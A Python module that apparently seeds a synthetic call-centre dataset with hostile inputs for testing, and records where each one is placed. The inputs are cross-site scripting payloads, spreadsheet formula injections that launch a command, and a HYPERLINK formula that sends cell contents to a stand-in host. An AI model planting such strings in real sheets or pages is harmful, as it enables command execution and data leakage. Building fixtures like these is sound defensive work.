"""Texts that people really type and that programs take for orders: markup, formulas, odd letters.

They are put where a text is written down, after all is drawn: chance goes on as it would without
them. `hostile` lists them for `truth/hostile.json`. Written by few, so by their number: no chance.
"""

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pipelines.demo.centre.people import Person

COMMENTS = (
    "<script>alert('survey')</script>",
    '=HYPERLINK("http://corrib.example/?"&A1,"open")',
    "<img src=x onerror=alert(1)> worked in the end",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
REASON = "=cmd|' /C calc'!A0"
CAMPAIGN = "+upsell-fibre"
MARKS = {"Dublin": "ليلى", "Manila": "🎧", "Bogota": "<b>Lu</b>"}
"""What a digital agent of each site has put behind the own name."""

_EVERY_COMMENT, _EVERY_THREAD = 7, 61


def comment(number: int, drawn: str) -> str:
    """The comment with this number of a site and kind of work, 1 for the first."""
    place, rest = divmod(number, _EVERY_COMMENT)
    return drawn if rest else COMMENTS[(place - 1) % len(COMMENTS)]


def reason(number: int, drawn: str) -> str:
    """What the thread with this number of a site is said to be about."""
    return drawn if number % _EVERY_THREAD else REASON


def sign_names(agents: list["Person"]) -> None:
    """Let one digital agent of each site write more than letters; log-ins stay as they are."""
    for site, mark in MARKS.items():
        first = next((p for p in agents if p.site == site and p.kind == "digital"), None)
        if first is not None:
            first.name = f"{first.name} {mark}"


def hostile() -> list[dict[str, str]]:
    """Every such text: ledger table, column, the text (of a name: its end)."""
    found = [("survey_answers", "text", text) for text in COMMENTS]
    found += [("contacts", "reason", REASON), ("outbound_attempts", "campaign", CAMPAIGN)]
    found += [("people", "name", mark) for mark in MARKS.values()]
    return [dict(zip(("table", "column", "text"), row, strict=True)) for row in found]
